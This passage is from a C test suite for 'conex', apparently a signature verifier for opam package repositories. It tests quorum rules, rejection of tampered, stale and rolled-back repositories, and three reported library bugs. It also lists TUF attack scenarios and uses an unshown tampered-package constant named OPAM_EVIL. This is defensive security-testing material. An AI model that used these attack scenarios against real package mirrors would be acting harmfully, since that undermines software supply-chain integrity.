		    rb_or(&w->a, rb_quorum(&w->a, 1, &la, 1), rb_quorum(&w->a, 1, &lb, 1)),
		    rb_quorum(&w->a, 1, &lc, 1));
		rb_key_hash(t, hex);
		ref = rb_remote("m1", hex, 0);
		w->rroot->role_maintainer = rb_quorum(&w->a, 1, &ref, 1);
		rb_world_sign_root(w);
		sign_targets_keys(w, t, ac, 2, "packages", "keys/m1");
		rb_world_sign_snapshot(w);
		rb_world_sign_timestamp(w);
		ACCEPT(vfy(&f, f.base, &e));
		sign_targets_keys(w, t, bc, 2, "packages", "keys/m1");
		sign_snap_ts(w);
		ACCEPT(vfy(&f, f.base, &e));
		/* a alone would do for a | (b & c) */
		sign_targets_keys(w, t, &ka, 1, "packages", "keys/m1");
		sign_snap_ts(w);
		REJECT(vfy(&f, f.base, &e), "not covered", NULL);
		sign_targets_keys(w, t, ab, 2, "packages", "keys/m1");
		sign_snap_ts(w);
		REJECT(vfy(&f, f.base, &e), "not covered", NULL);
		fx_free(&f);
	}
	rb_key_free(ka);
	rb_key_free(kb);
	rb_key_free(kc);
}
END_TEST

/*
 * LIBRARY BUG (reported to the lead, not fixed here): when the root, the
 * timestamp or the snapshot does not parse, conex/verify.c (verify_root,
 * load_role) re-tags the error with
 *     cx_err_set(v->e, CX_EREJECT, "%s", v->e->msg)
 * i.e. vsnprintf from e->msg into e->msg: overlapping source and destination
 * (undefined behaviour; glibc writes an empty string).  The repository is
 * rejected, but the message that should name the file and the reason is
 * lost.  This test asserts the correct behaviour and fails until that is fixed.
 */
START_TEST(test_libbug_meta_parse_error_message)
{
	struct fx f;
	struct cx_err e;
	struct rb_world *w;
	const char *d;

	fx_init(&f, 1, 1, 1);
	w = &f.w;
	ACCEPT(vfy(&f, f.base, &e));
	/* a root with a bad escape (§12.5 for the root) */
	d = fx_copy(&f, f.base, "root");
	edit_file(d, "root", "\"root\"", "\"ro\\qot\"");
	REJECT(vfy(&f, d, &e), "root", NULL);
	/* a timestamp and a snapshot that do not parse */
	d = fx_copy(&f, f.base, "ts");
	edit_file(d, "timestamp", "\"timestamp\"", "\"time\\qstamp\"");
	REJECT(vfy(&f, d, &e), "timestamp", NULL);
	d = fx_copy(&f, f.base, "snap");
	edit_file(d, "snap", "\"snap\"", "\"sn\\qap\"");
	REJECT(vfy(&f, d, &e), "snap", NULL);
	/* a root whose maintainer quorum of 2 names m1 twice (m1, M1): one key */
	d = fx_copy(&f, f.base, "dup");
	{
		struct cx_expr *m = w->rroot->role_maintainer;
		struct cx_keyref refs[2];
		refs[0] = m->refs[0];
		refs[1] = m->refs[0];
		refs[1].id = "M1";
		w->rroot->role_maintainer = rb_quorum(&w->a, 2, refs, 2);
		rb_world_sign_root(w);
		REJECT(vfy(&f, d, &e), "root", "insufficient keys for quorum");
	}
	fx_free(&f);
}
END_TEST

/*
 * LIBRARY BUG (reported to the lead, not fixed here): an unterminated (* comment
 * that spans lines is reported at the line where the input ends but with the
 * column of the comment's start measured from that line's beginning
 * (conex/opam_lex.c skip_blank: lex_err(l, e, start, ...) after newline() has
 * moved line_start past start), so col_of() wraps around: "keys/m3:48:4294966270".
 * The position must point into the input.
 */
START_TEST(test_libbug_lexer_comment_location)
{
	static const char doc[] = "signed: [\n  (* a comment\n  that never ends\n";
	struct cx_arena a;
	struct cx_resource *r;
	struct cx_err e;
	unsigned line = 0, col = 0;
	const char *at, *ls = doc;

	cx_arena_init(&a, 0);
	ck_assert_int_eq(cx_resource_parse(&a, "keys/m3", (const uint8_t *)doc, sizeof(doc) - 1,
	                     CX_R_TARGETS, &r, NULL, &e),
	    CX_EPARSE);
	ck_assert_msg(strstr(e.msg, "unterminated comment") != NULL, "%s", e.msg);
	at = strstr(e.msg, "keys/m3:");
	ck_assert_msg(at != NULL && sscanf(at, "keys/m3:%u:%u:", &line, &col) == 2, "%s", e.msg);
	ck_assert_msg(line >= 1 && line <= 4, "%s", e.msg);
	for (unsigned i = 1; i < line; i++)
		ls = strchr(ls, '\n') + 1;
	ck_assert_msg(col >= 1 && col <= strcspn(ls, "\n") + 1, "%s: column %u is not on line %u",
	    e.msg, col, line);
	cx_arena_free(&a);
}
END_TEST

/*
 * LIBRARY BUG (reported to the lead, not fixed here): conex/verify.c
 * verify_timestamp_snapshot computes `v->o->now + v->o->expiry`, a signed
 * overflow when the expiry is huge (the CLI accepts any --expiry up to
 * LLONG_MAX; UBSan: "signed integer overflow" at that line).  In practice it
 * wraps negative and a fresh timestamp is rejected as "in the future".  A
 * fresh timestamp must be accepted with any expiry.
 */
START_TEST(test_libbug_expiry_overflow)
{
	struct fx f;
	struct cx_err e;
	struct cx_verify_opts o;

	fx_init(&f, 1, 1, 1);
	fx_opts(&f, &o);
	o.expiry = INT64_MAX / 2;
	ACCEPT(vdir(f.base, &o, NULL, &e));
	o.expiry = INT64_MAX;
	ACCEPT(vdir(f.base, &o, NULL, &e));
	fx_free(&f);
}
END_TEST

/* ======================= the CLI ======================= */

static int cli(const char *args_fmt, ...) __attribute__((format(printf, 1, 2)));

static int
cli(const char *args_fmt, ...)
{
	va_list ap;
	char *args;
	int r;

	va_start(ap, args_fmt);
	ck_assert_int_ge(vasprintf(&args, args_fmt, ap), 0);
	va_end(ap);
	r = cx_test_sh("'%s/conex' verify %s >/dev/null 2>&1", CX_BUILD_DIR, args);
	free(args);
	return r;
}

START_TEST(test_cli_exit_codes)
{
	struct fx f;
	struct rb_world *w;
	const char *v2, *bad, *st;
	char anchor[80];

	fx_init(&f, 3, 2, 1);
	w = &f.w;
	snprintf(anchor, sizeof(anchor), "sha256=%s", w->root->keyid);
	ck_assert_int_eq(
	    cli("-t %s --dir '%s' --now %s --no-state", anchor, f.base, w->created), 0);
	ck_assert_int_eq(
	    cli("-t %s --quorum 1 --dir '%s' --now %s --no-state", anchor, f.base, w->created), 0);
	/* opam may pass --quorum 0: still at least one anchored signature */
	ck_assert_int_eq(
	    cli("-t %s --quorum 0 --dir '%s' --now %s --no-state", anchor, f.base, w->created), 0);
	/* rejected: stale, tampered, wrong anchor, quorum too high */
	ck_assert_int_eq(
	    cli("-t %s --dir '%s' --now 2026-01-01T00:00:00Z --no-state", anchor, f.base), 1);
	ck_assert_int_eq(cli("-t %s --dir '%s' --now %s --expiry 100000000 --no-state", anchor,
	                     f.base, "2026-01-01T00:00:00Z"),
	    0);
	bad = fx_copy(&f, f.base, "bad");
	write_str(bad, "packages/foo/foo.1.0.0/opam", OPAM_EVIL);
	ck_assert_int_eq(cli("-t %s --dir '%s' --now %s --no-state", anchor, bad, w->created), 1);
	ck_assert_int_eq(
	    cli("-t sha256=%s --dir '%s' --now %s --no-state", w->m[0]->keyid, f.base, w->created),
	    1);
	ck_assert_int_eq(
	    cli("-t %s --quorum 2 --dir '%s' --now %s --no-state", anchor, f.base, w->created), 1);
	/* usage errors */
	ck_assert_int_eq(cli("--dir '%s' --now %s --no-state", f.base, w->created), 2);
	ck_assert_int_eq(
	    cli("-t sha256=XYZ --dir '%s' --now %s --no-state", f.base, w->created), 2);
	ck_assert_int_eq(cli("-t %s --dir '%s' --patch '%s/root' --now %s --no-state", anchor,
	                     f.base, f.base, w->created),
	    2);
	ck_assert_int_eq(
	    cli("-t %s --incremental --dir '%s' --now %s --no-state", anchor, f.base, w->created),
	    2);
	ck_assert_int_eq(cli("-t %s --now %s --no-state", anchor, w->created), 2);
	ck_assert_int_eq(
	    cli("-t %s --dir '%s' --quorum -1 --now %s --no-state", anchor, f.base, w->created), 2);
	ck_assert_int_eq(
	    cli("-t %s --dir '%s' --quorum x --now %s --no-state", anchor, f.base, w->created), 2);
	ck_assert_int_eq(cli("-t %s --dir '%s' --now yesterday --no-state", anchor, f.base), 2);
	ck_assert_int_eq(
	    cli("-t %s --dir '%s/absent' --now %s --no-state", anchor, f.tmp, w->created), 2);
	/* rollback across full fetches with --state */
	v2 = fx_copy(&f, f.base, "v2");
	rb_world_file(w, "packages/foo/foo.2.0.0/opam", OPAM_FOO);
	for (int i = 0; i < 3; i++)
		rb_world_sign_maintainer(w, i);
	rb_world_sign_snapshot(w);
	rb_world_sign_timestamp(w);
	st = fx_path(&f, f.tmp, "state");
	ck_assert_int_eq(
	    cli("-t %s --dir '%s' --now %s --state '%s'", anchor, f.base, w->created, st), 0);
	ck_assert_int_eq(
	    cli("-t %s --dir '%s' --now %s --state '%s'", anchor, v2, w->created, st), 0);
	ck_assert_int_eq(
	    cli("-t %s --dir '%s' --now %s --state '%s'", anchor, v2, w->created, st), 0);
	ck_assert_int_eq(
	    cli("-t %s --dir '%s' --now %s --state '%s'", anchor, f.base, w->created, st), 1);
	/* without the state the old copy is accepted again */
	ck_assert_int_eq(
	    cli("-t %s --dir '%s' --now %s --no-state", anchor, f.base, w->created), 0);
	/* a damaged state is an error, never a reset that would allow the rollback */
	{
		char *sp;
		struct cx_err e;
		ck_assert_int_eq(cx_state_path(st, f.anchors, 1, &sp, &e), 0);
		write_str("/", sp + 1, "garbage\n");
		ck_assert_int_eq(
		    cli("-t %s --dir '%s' --now %s --state '%s'", anchor, f.base, w->created, st),
		    3);
		free(sp);
	}
	/* another set of anchors keeps another state */
	ck_assert_int_eq(cli("-t %s,sha256=%s --dir '%s' --now %s --state '%s'", anchor,
	                     w->m[0]->keyid, f.base, w->created, st),
	    0);
	fx_free(&f);
}
END_TEST

int
main(void)
{
	Suite *s = suite_create("attacks");
	TCase *tuf = tcase_create("tuf");
	TCase *bugs = tcase_create("upstream-bugs");
	TCase *tcli = tcase_create("cli");
	/* bugs found in conex/ by these tests: they fail until the library is fixed */
	TCase *libbugs = tcase_create("library-bugs");
	SRunner *sr;
	int nf;

	tcase_set_timeout(tuf, 120);
	tcase_set_timeout(bugs, 120);
	tcase_set_timeout(tcli, 120);
	tcase_set_timeout(libbugs, 120);
	tcase_add_test(tuf, test_arbitrary_installation);
	tcase_add_test(tuf, test_endless_data_cap);
	tcase_add_test(tuf, test_endless_data_huge_file);
	tcase_add_test(tuf, test_extraneous_dependencies);
	tcase_add_test(tuf, test_fast_forward_snapshot);
	tcase_add_test(tuf, test_fast_forward_timestamp);
	tcase_add_test(tuf, test_counters_check_rules);
	tcase_add_test(tuf, test_indefinite_freeze);
	tcase_add_test(tuf, test_malicious_mirror_foreign_root);
	tcase_add_test(tuf, test_malicious_mirror_role_keys);
	tcase_add_test(tuf, test_mix_and_match);
	tcase_add_test(tuf, test_rollback_incremental);
	tcase_add_test(tuf, test_rollback_full_state);
	tcase_add_test(tuf, test_key_compromise_below_threshold);
	tcase_add_test(tuf, test_key_compromise_delegation);
	tcase_add_test(tuf, test_wrong_software_installation);
	tcase_add_test(tuf, test_delegation_terminating);
	tcase_add_test(tuf, test_one_key_twice_root);

	tcase_add_test(bugs, test_bug1_quorum0_root);
	tcase_add_test(bugs, test_bug4_nostrict);
	tcase_add_test(bugs, test_bug5_malformed_keys);
	tcase_add_test(bugs, test_bug6_unsigned_files);
	tcase_add_test(bugs, test_bug7_keys_modified_after_snapshot);
	tcase_add_test(bugs, test_bug11_symlinks);
	tcase_add_test(bugs, test_bug15_case);
	tcase_add_test(bugs, test_bug16_and_or_roundtrip);
	tcase_add_test(libbugs, test_one_key_twice_targets);
	tcase_add_test(libbugs, test_one_key_twice_maintainers);
	tcase_add_test(libbugs, test_libbug_meta_parse_error_message);
	tcase_add_test(libbugs, test_libbug_lexer_comment_location);
	tcase_add_test(libbugs, test_libbug_expiry_overflow);
	tcase_add_test(tcli, test_cli_exit_codes);
	suite_add_tcase(s, tuf);
	suite_add_tcase(s, bugs);
	suite_add_tcase(s, tcli);
	suite_add_tcase(s, libbugs);
	sr = srunner_create(s);
	srunner_run_all(sr, CK_NORMAL);
	nf = srunner_ntests_failed(sr);
	srunner_free(sr);
	return nf == 0 ? 0 : 1;
}
